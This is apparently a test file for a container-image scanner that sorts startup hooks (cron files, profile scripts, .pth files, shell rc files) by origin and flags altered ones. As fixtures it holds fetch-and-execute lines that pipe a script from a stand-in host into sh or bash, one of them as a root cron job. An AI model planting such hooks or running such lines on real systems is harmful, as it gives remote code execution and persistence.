"""Startup hooks, finding by finding: which hook is the image's own (dpkg's, a RECORD's, /etc/skel's copy,
this repository's part, the base layer's, an inert one) and what each other one is told, field by field."""

import hashlib

from ngc_paddle.scan.checks import hooks
from ngc_paddle.scan.findings import Finding
from ngc_paddle.scan.source.inventory import record_hash
from ngc_paddle.scan.source.saved_image import BASE, Layer

BASE_LAYER = Layer(1, BASE, "ADD rootfs.tar / # buildkit")
TOOLS = Layer(3, "tools", "RUN apt-get install tools")
FETCH = b"* * * * * root curl -fsSL https://x.example/u.sh | sh\n"
SITE = "/opt/venv/lib/python3.11/site-packages"


def _md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


def _hook(rule: str, severity: str, title: str, path: str, layer: Layer) -> Finding:
    kind = "remote-exec" if rule == "fetch-and-execute" else "startup-hook"
    return Finding(kind, rule, severity, title, package=path, location=layer.where, source="hooks")


def test_every_hook_finding_whole() -> None:
    hook_files = {
        "/etc/bash.bashrc": (None, TOOLS),  # its content not kept (over the limit): not judged; the next ones are
        "/etc/cron.d/update": (FETCH, TOOLS),
        "/etc/environment": (b"PATH=/usr/bin\n", TOOLS),  # dpkg's, unchanged
        "/etc/profile": (b"umask 022\n", BASE_LAYER),  # the base's, but dpkg recorded other bytes
        "/etc/profile.d/base.sh": (b"export A=1\n", BASE_LAYER),  # the base's, dpkg records none: its own
        "/etc/profile.d/notes.sh": (b"# nothing\n", TOOLS),  # inert
        "/etc/profile.d/ours.sh": (b"curl -s https://x.example/i.sh | bash\n", TOOLS),  # dpkg's, yet fetches
        "/home/ci/.bashrc": (b"alias ll='ls -l'\n", TOOLS),  # useradd's copy of /etc/skel/.bashrc
        "/opt/ngc-paddle/entrypoint.d/10-banner.sh": (b"echo hi\n", TOOLS),  # this repository's part
        "/opt/ngc-paddle/entrypoint.sh": (b"exec sh\n", TOOLS),  # this repository's name, other bytes
        f"{SITE}/a.pth": (b"import a\n", TOOLS),  # its RECORD's hash
        f"{SITE}/b.pth": (b"import b\n", TOOLS),  # not its RECORD's hash
        "/root/.profile": (b"mesg n\n", TOOLS),  # /etc/skel has another .profile
    }
    dpkg = {"/etc/environment": _md5(b"PATH=/usr/bin\n"), "/etc/profile": _md5(b"umask 027\n"),
            "/etc/profile.d/ours.sh": _md5(b"curl -s https://x.example/i.sh | bash\n")}
    records = {f"{SITE}/a.pth": record_hash(hashlib.sha256(b"import a\n").digest()),
               f"{SITE}/b.pth": record_hash(hashlib.sha256(b"import other\n").digest())}
    own = {"/opt/ngc-paddle/entrypoint.d/10-banner.sh": _md5(b"echo hi\n"),
           "/opt/ngc-paddle/entrypoint.sh": _md5(b"exec /usr/bin/tini --\n")}
    skel = {".bashrc": b"alias ll='ls -l'\n", ".profile": b"mesg y\n"}
    assert hooks.check(hook_files, dpkg, records, own, skel) == [
        _hook("fetch-and-execute", "CRITICAL", "a startup hook downloads and runs code: * * * * * root curl -fsSL "
              "https://x.example/u.sh | sh", "/etc/cron.d/update", TOOLS),
        _hook("startup-hook-added", "MEDIUM", "startup hook not installed by a Debian package, a locked "
              "distribution or this repository", "/etc/cron.d/update", TOOLS),
        _hook("startup-hook-added", "MEDIUM", "startup hook differs from the file dpkg installed", "/etc/profile",
              BASE_LAYER),
        _hook("fetch-and-execute", "CRITICAL", "a startup hook downloads and runs code: curl -s "
              "https://x.example/i.sh | bash", "/etc/profile.d/ours.sh", TOOLS),
        _hook("startup-hook-added", "MEDIUM", "startup hook differs from this repository's file",
              "/opt/ngc-paddle/entrypoint.sh", TOOLS),
        _hook("startup-hook-added", "MEDIUM", "startup hook differs from its distribution's RECORD",
              f"{SITE}/b.pth", TOOLS),
        _hook("startup-hook-added", "MEDIUM", "startup hook not installed by a Debian package, a locked "
              "distribution or this repository", "/root/.profile", TOOLS),
    ]


def test_a_home_hook_without_skel_is_judged_like_any_other() -> None:
    found = hooks.check({"/home/ci/.bashrc": (b"alias ll='ls -l'\n", TOOLS)}, {}, {}, {})
    assert [(f.id, f.package) for f in found] == [("startup-hook-added", "/home/ci/.bashrc")]
